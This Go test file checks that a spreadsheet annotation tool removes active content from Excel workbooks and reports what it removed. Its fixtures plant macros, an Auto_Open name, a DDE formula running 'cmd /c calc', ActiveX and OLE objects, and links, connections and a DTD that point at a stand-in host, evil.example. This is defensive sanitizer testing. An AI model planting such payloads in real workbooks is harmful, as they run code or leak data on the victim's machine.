package annotate_test

import (
	"archive/zip"
	"bytes"
	"fmt"
	"maps"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"huizong/pkg/annotate"
	"huizong/pkg/reporting"
)

const (
	office  = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	ms      = "http://schemas.microsoft.com/office/2006/relationships/"
	relsXML = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`
)

// trap is one thing that acts when the workbook is opened: relations of parts, further parts, and what stands in the XML of others.
type trap struct {
	name    string
	rels    map[string]string // part → relations to add
	parts   map[string]string
	types   string                            // content types to add
	change  func(part, content string) string // of what is there
	says    string                            // what the list of findings says of it
	gone    []string                          // texts that no part may hold afterwards
	rebuilt bool                              // the copy is made of the cells
}

func rel(id, kind, target string, external bool) string {
	mode := ""
	if external {
		mode = ` TargetMode="External"`
	}
	return fmt.Sprintf(`<Relationship Id="%s" Type="%s" Target="%s"%s/>`, id, kind, target, mode)
}

const (
	workbookPart = "xl/workbook.xml"
	sheetPart    = "xl/worksheets/sheet1.xml"
)

// into puts a text before the first of the marks that the part has.
func into(part, text string, marks ...string) func(string, string) string {
	return func(name, content string) string {
		if name != part {
			return content
		}
		for _, mark := range marks {
			if at := strings.Index(content, mark); at >= 0 {
				return content[:at] + text + content[at:]
			}
		}
		panic(part + " has none of " + fmt.Sprint(marks))
	}
}

func formula(text string) func(string, string) string {
	return func(name, content string) string {
		if name == sheetPart {
			return strings.Replace(content, "<f>SUM(B2:B3)</f>", "<f>"+text+"</f>", 1)
		}
		return content
	}
}

func name(text string) func(string, string) string {
	return into(workbookPart, text, "</definedNames>")
}

var traps = []trap{
	{name: "Macros", rels: map[string]string{workbookPart: rel("rX1", ms+"vbaProject", "vbaProject.bin", false)}, parts: map[string]string{"xl/vbaProject.bin": "EVIL"},
		types: `<Override PartName="/xl/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>`, says: "宏 1 处", gone: []string{"vbaProject", "EVIL"}},
	{name: "Connections", rels: map[string]string{workbookPart: rel("rX1", office+"connections", "connections.xml", false)},
		parts: map[string]string{"xl/connections.xml": `<connections><connection id="1" refreshOnLoad="1"><webPr url="http://evil.example/"/></connection></connections>`},
		types: `<Override PartName="/xl/connections.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/>`, says: "外部数据连接 1 处", gone: []string{"evil.example", "connections.xml", "<connection"}},
	{name: "QueryTable", rels: map[string]string{sheetPart: rel("rX1", office+"queryTable", "../queryTables/queryTable1.xml", false)},
		parts: map[string]string{"xl/queryTables/queryTable1.xml": `<queryTable name="EVIL" connectionId="1" refreshOnLoad="1"/>`}, says: "外部数据连接 1 处", gone: []string{"queryTable", "EVIL"}},
	{name: "ExternalBook", rels: map[string]string{workbookPart: rel("rX1", office+"externalLink", "externalLinks/externalLink1.xml", false), "xl/externalLinks/externalLink1.xml": rel("rId1", office+"externalLinkPath", `\\evil.example\share\book.xlsx`, true)},
		parts: map[string]string{"xl/externalLinks/externalLink1.xml": `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook xmlns:r="` + strings.TrimSuffix(office, "/") + `" r:id="rId1"/></externalLink>`},
		change: func(part, content string) string {
			content = into(workbookPart, `<externalReferences><externalReference xmlns:r="`+strings.TrimSuffix(office, "/")+`" r:id="rX1"/></externalReferences>`, "<definedNames")(part, content)
			return formula("[1]Sheet1!B2")(part, content)
		}, says: "与其他文件或程序的链接 1 处、从文件外取数或运行程序的公式（只留结果） 1 处", gone: []string{"externalReference", "evil.example", "[1]"}},
	{name: "OLE", rels: map[string]string{sheetPart: rel("rX1", office+"oleObject", "../embeddings/oleObject1.bin", false)}, parts: map[string]string{"xl/embeddings/oleObject1.bin": "EVIL"},
		change: into(sheetPart, `<oleObjects><oleObject xmlns:r="`+strings.TrimSuffix(office, "/")+`" progId="Package" shapeId="1026" r:id="rX1"/></oleObjects>`, "</worksheet>"), says: "嵌入的对象 1 处", gone: []string{"oleObject", "EVIL"}},
	{name: "OLELink", change: into(sheetPart, `<oleObjects><oleObject progId="Word.Document" link="[1]!evil" oleUpdate="OLEUPDATE_ALWAYS" shapeId="1026"/></oleObjects>`, "</worksheet>"), says: "嵌入的对象 1 处", gone: []string{"oleObject", "evil"}},
	{name: "ActiveX", rels: map[string]string{sheetPart: rel("rX1", office+"control", "../activeX/activeX1.xml", false), "xl/activeX/activeX1.xml": rel("rId1", ms+"activeXControlBinary", "activeX1.bin", false)},
		parts:  map[string]string{"xl/activeX/activeX1.xml": `<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{EVIL}"/>`, "xl/activeX/activeX1.bin": "EVIL"},
		change: into(sheetPart, `<controls><control xmlns:r="`+strings.TrimSuffix(office, "/")+`" shapeId="1025" r:id="rX1" name="x"/></controls>`, "</worksheet>"), says: "ActiveX 控件 1 处", gone: []string{"activeX1", "EVIL", "<control"}},
	{name: "Share", rels: map[string]string{sheetPart: rel("rX1", office+"hyperlink", `file:///\\evil.example\share\x.exe`, true) + rel("rX2", office+"hyperlink", "https://www.example.gov.cn/a?b=1&amp;c=2", true) + rel("rX3", office+"hyperlink", `\\evil.example\y`, true) + rel("rX4", office+"hyperlink", `x.lnk`, true)},
		change: into(sheetPart, `<hyperlinks xmlns:r="`+strings.TrimSuffix(office, "/")+`"><hyperlink ref="A1" r:id="rX1"/><hyperlink ref="A2" r:id="rX2"/><hyperlink ref="A3" r:id="rX3"/><hyperlink ref="A4" r:id="rX4"/></hyperlinks>`, "<pageMargins", "<drawing", "<legacyDrawing"),
		says:   "指向文件或网络共享的超链接 3 处", gone: []string{"evil.example", "x.lnk", "file:"}},
	{name: "Ribbon", rels: map[string]string{"": rel("rX1", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "customUI/customUI14.xml", false)}, parts: map[string]string{"customUI/customUI14.xml": `<customUI onLoad="EVIL"/>`}, says: "自定义功能区 1 处", gone: []string{"customUI14", "EVIL"}},
	{name: "AddIn", rels: map[string]string{"": rel("rX1", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "xl/webextensions/taskpanes.xml", false)}, parts: map[string]string{"xl/webextensions/taskpanes.xml": `<taskpanes EVIL=""/>`}, says: "加载项 1 处", gone: []string{"taskpanes", "EVIL"}},
	{name: "PowerQuery", rels: map[string]string{workbookPart: rel("rX1", office+"customXml", "../customXml/item1.xml", false)}, parts: map[string]string{"customXml/item1.xml": `<DataMashup>EVIL</DataMashup>`}, says: "自定义 XML（含 Power Query） 1 处", gone: []string{"customXml/", "EVIL"}},
	{name: "Unheard", rels: map[string]string{workbookPart: rel("rX1", "http://schemas.example/2031/relationships/brainLink", "brain/link1.xml", false)}, parts: map[string]string{"xl/brain/link1.xml": `<brain>EVIL</brain>`}, says: "其他不认识的部件 1 处", gone: []string{"brain", "EVIL"}},
	{name: "Unreached", parts: map[string]string{"xl/macros/lonely.bin": "EVIL"}, types: `<Override PartName="/xl/macros/lonely.bin" ContentType="application/vnd.ms-office.vbaProject"/>`, gone: []string{"lonely", "EVIL", "vbaProject"}},
	{name: "AutoOpen", change: name(`<definedName name="_xlnm.Auto_Open" xlm="1">EVIL!$A$1</definedName>`), says: "宏 1 处", gone: []string{"Auto_Open", "EVIL"}},
	{name: "DDE", change: formula("cmd|'/c calc'!A0"), says: "从文件外取数或运行程序的公式（只留结果） 1 处", gone: []string{"/c calc"}},
	{name: "DDEName", change: name(`<definedName name="x">cmd|'/c calc'!A0</definedName>`), says: "从文件外取数或运行程序的公式（只留结果） 1 处", gone: []string{"/c calc"}},
	{name: "Validation", change: into(sheetPart, `<dataValidations count="1"><dataValidation type="list" sqref="A1"><formula1>'\\evil.example\[b.xlsx]S'!A1</formula1></dataValidation></dataValidations>`, "<hyperlinks", "<pageMargins", "<legacyDrawing"), says: "从文件外取数", gone: []string{"evil.example"}},
	{name: "LinkFormula", change: formula(`HYPERLINK("\\evil.example\x","点")`), says: "从文件外取数", gone: []string{"evil.example"}},
	{name: "Publishing", change: into(sheetPart, `<webPublishItems count="1"><webPublishItem id="1" divId="x" sourceType="sheet" destinationFile="\\evil.example\x.htm" autoRepublish="1"/></webPublishItems>`, "</worksheet>"), says: "外部数据连接 1 处", gone: []string{"evil.example"}},
	{name: "MacroSheet", rels: map[string]string{workbookPart: rel("rX1", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml", false)},
		parts:  map[string]string{"xl/macrosheets/sheet1.xml": `<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData/>EVIL</xm:macrosheet>`},
		types:  `<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>`,
		change: into(workbookPart, `<sheet name="宏1" sheetId="9" state="veryHidden" xmlns:r="`+strings.TrimSuffix(office, "/")+`" r:id="rX1"/>`, "</sheets>"), says: "宏 1 处", gone: []string{"macrosheet", "EVIL"}, rebuilt: true},
	{name: "WebPicture", rels: map[string]string{sheetPart: rel("rX1", office+"drawing", "../drawings/drawing9.xml", false), "xl/drawings/drawing9.xml": rel("rId1", office+"image", "https://evil.example/x.png", true) + rel("rId2", office+"hyperlink", "file:///c:/evil.example.exe", true)},
		parts:  map[string]string{"xl/drawings/drawing9.xml": `<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="` + strings.TrimSuffix(office, "/") + `"><xdr:oneCellAnchor><xdr:pic macro="[0]!EVIL"><xdr:nvPicPr><xdr:cNvPr id="2" name="x"><a:hlinkClick r:id="rId2"/></xdr:cNvPr></xdr:nvPicPr><xdr:blipFill><a:blip r:link="rId1"/></xdr:blipFill></xdr:pic></xdr:oneCellAnchor></xdr:wsDr>`},
		types:  `<Override PartName="/xl/drawings/drawing9.xml" ContentType="application/vnd.openxmlformats-officedocument.drawing+xml"/>`,
		change: into(sheetPart, `<drawing xmlns:r="`+strings.TrimSuffix(office, "/")+`" r:id="rX1"/>`, "<legacyDrawing", "</worksheet>"), says: "宏 1 处、指向文件或网络共享的超链接 1 处、链接的图片 1 处", gone: []string{"evil.example", "EVIL", "hlinkClick"}},
	{name: "Pivot", rels: map[string]string{workbookPart: rel("rX1", office+"pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml", false)},
		parts:  map[string]string{"xl/pivotCache/pivotCacheDefinition1.xml": `<pivotCacheDefinition xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" refreshOnLoad="1"><cacheSource type="external" connectionId="1"/>EVIL</pivotCacheDefinition>`},
		change: into(workbookPart, `<pivotCaches><pivotCache xmlns:r="`+strings.TrimSuffix(office, "/")+`" cacheId="1" r:id="rX1"/></pivotCaches>`, "</workbook>"), gone: []string{"pivotCache", "EVIL"}, rebuilt: true},
	{name: "DocType", change: func(part, content string) string {
		if part == "docProps/core.xml" {
			return `<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>`
		}
		return content
	}, gone: []string{"evil.example"}, rebuilt: true},
}

// spring puts a trap into a workbook.
func spring(t *testing.T, file []byte, trap trap) []byte {
	t.Helper()
	left := maps.Clone(trap.rels)
	if left == nil {
		left = map[string]string{}
	}
	relsOf := func(part string) string {
		at := strings.LastIndex(part, "/") + 1
		return part[:at] + "_rels/" + part[at:] + ".rels"
	}
	out := repack(t, file, func(part, content string) (string, string) {
		for owner, list := range left {
			if relsOf(owner) == part {
				content = strings.Replace(content, "</Relationships>", list+"</Relationships>", 1)
				delete(left, owner)
			}
		}
		if part == "[Content_Types].xml" {
			content = strings.Replace(content, "</Types>", trap.types+"</Types>", 1)
		}
		if trap.change != nil {
			content = trap.change(part, content)
		}
		return part, content
	})
	parts := maps.Clone(trap.parts)
	if parts == nil {
		parts = map[string]string{}
	}
	for owner, list := range left {
		parts[relsOf(owner)] = relsXML + list + "</Relationships>"
	}
	return withParts(t, out, parts)
}

func withParts(t *testing.T, file []byte, parts map[string]string) []byte {
	t.Helper()
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	all := map[string]string{}
	repack(t, file, func(name, content string) (string, string) { all[name] = content; return name, content })
	maps.Copy(all, parts)
	for _, name := range slices.Sorted(maps.Keys(all)) {
		w, err := zw.Create(name)
		do(t, err)
		_, err = w.Write([]byte(all[name]))
		do(t, err)
	}
	do(t, zw.Close())
	return b.Bytes()
}

var anyRelation = regexp.MustCompile(`<Relationship [^>]*Id="([^"]*)"`)
var usedRelation = regexp.MustCompile(`\br:(?:id|embed|link)="([^"]*)"`)

// checkPackage looks whether each relation that a part uses is there, and each type's part: Excel offers to repair what is not so.
func checkPackage(t *testing.T, file []byte, gone []string) {
	t.Helper()
	all := map[string]string{}
	repack(t, file, func(name, content string) (string, string) { all[name] = content; return name, content })
	for name, content := range all {
		for _, text := range gone {
			if strings.Contains(strings.ToLower(content), strings.ToLower(text)) || strings.Contains(strings.ToLower(name), strings.ToLower(text)) {
				t.Errorf("%s still holds %q", name, text)
			}
		}
		at := strings.LastIndex(name, "/") + 1
		known := map[string]bool{}
		for _, m := range anyRelation.FindAllStringSubmatch(all[name[:at]+"_rels/"+name[at:]+".rels"], -1) {
			known[m[1]] = true
		}
		for _, m := range usedRelation.FindAllStringSubmatch(content, -1) {
			if !known[m[1]] {
				t.Errorf("%s uses relation %s, which is not there", name, m[1])
			}
		}
	}
	for _, m := range regexp.MustCompile(`PartName="/([^"]*)"`).FindAllStringSubmatch(all["[Content_Types].xml"], -1) {
		if _, there := all[m[1]]; !there {
			t.Errorf("a type is given to %s, which is not there", m[1])
		}
	}
}

// cells is a workbook's cells without the list of findings.
func texts(t *testing.T, book *excelize.File, sheet string) string {
	t.Helper()
	var all []string
	for _, cell := range []string{"A1", "B2", "B3", "B4"} {
		all = append(all, value(t, book, sheet, cell))
	}
	return strings.Join(all, " ")
}

// TestNothingActs: whatever acts when a workbook is opened is not in the copy that goes back, the list of findings says what that was, and
// the copy opens with the cells that the clerk sent.
func TestNothingActs(t *testing.T) {
	clean := clerksBook(t)
	sheets := decode(t, clean)
	in := annotate.Input{Sheets: sheets, Decision: reporting.Decision{Findings: []reporting.Finding{finding("error", "6月", "B2", "40", "应为 41")}}}
	in.File = clean
	book, told := writeTold(t, in)
	if note := left(t, book); note != "" || len(told) > 0 {
		t.Errorf("of a workbook with nothing in it: %q, %v", note, told)
	}
	for _, trap := range traps {
		t.Run(trap.name, func(t *testing.T) {
			in.File = spring(t, clean, trap)
			out, told := writeTold(t, in)
			checkPackage(t, out, trap.gone)
			note := left(t, out)
			if !strings.Contains(note, trap.says) || trap.rebuilt != strings.Contains(note, "重新生成") || trap.says != "" && !strings.Contains(note, "原件未作改动") {
				t.Errorf("the list says %q, want %q", note, trap.says)
			}
			if madeAnew := len(told) > 0 && told[len(told)-1].Count == 0; madeAnew != trap.rebuilt || (trap.says == "") != (len(told) == 0 || madeAnew && len(told) == 1) {
				t.Errorf("told %v", told)
			}
			book := open(t, out)
			if got := texts(t, book, "6月"); got != "月报表 40 2 42" {
				t.Errorf("cells %q", got)
			}
			if got := comments(t, book, "6月"); !trap.rebuilt && got["B3"] != "待核" || !strings.Contains(got["B2"], "应为 41") {
				t.Errorf("comments %q", got)
			}
			back := decode(t, out)
			if len(back) != 3 {
				t.Errorf("%d sheets come back, want 3", len(back))
			}
			if again := write(t, annotate.Input{File: out, Sheets: back[1:]}); strings.Contains(left(t, again), "已去掉") {
				t.Errorf("annotated again: %q", left(t, again))
			}
		})
	}
	t.Run("AllAtOnce", func(t *testing.T) {
		in.File = clean
		var gone []string
		for i, trap := range traps {
			if trap.rebuilt {
				continue
			}
			for part, list := range trap.rels { // ids of their own
				trap.rels[part] = strings.ReplaceAll(list, `"rX`, fmt.Sprintf(`"rY%d_`, i))
			}
			if change := trap.change; change != nil {
				trap.change = func(part, content string) string {
					return strings.ReplaceAll(change(part, content), `"rX`, fmt.Sprintf(`"rY%d_`, i))
				}
			}
			in.File = spring(t, in.File, trap)
			gone = append(gone, trap.gone...)
		}
		out := write(t, in)
		checkPackage(t, out, gone)
		if got := texts(t, open(t, out), "6月"); got != "月报表 40 2 42" {
			t.Errorf("cells %q", got)
		}
	})
}

// left is what the list of findings says was left out.
func left(t *testing.T, file []byte) string {
	t.Helper()
	rows, err := open(t, file).GetRows("核对结果")
	do(t, err)
	for _, row := range rows {
		if len(row) > 0 && (strings.Contains(row[0], "本批注表")) {
			return row[0]
		}
	}
	return ""
}

// TestHarmlessStays: what reaches nowhere outside stays as it is.
func TestHarmlessStays(t *testing.T) {
	for _, text := range []string{"SUM(B2:B3)", "旧表!A1+B2", "'旧 表'!A1", "IF(B2=40,&quot;是&quot;,&quot;否&quot;)", "HYPERLINK(&quot;#旧表!A1&quot;,&quot;看&quot;)",
		"HYPERLINK(&quot;https://www.example.gov.cn/&quot;,&quot;网&quot;)", "表1[[#This Row],[2020]]*2", "TEXT(B2,&quot;[红色]0&quot;)", "ROUND(CALLER(B2),2)",
		"SUM([0]!合计)", "&quot;the world's &quot;&amp;COUNTA(表1[市])&amp;&quot; cities&quot;"} {
		file := spring(t, clerksBook(t), trap{change: formula(text)})
		out := annotated(t, file)
		want := strings.NewReplacer("&quot;", `"`, "&amp;", "&").Replace(text)
		if got, _ := open(t, out).GetCellFormula("6月", "B4"); got != want {
			t.Errorf("formula %q became %q", want, got)
		}
	}
}
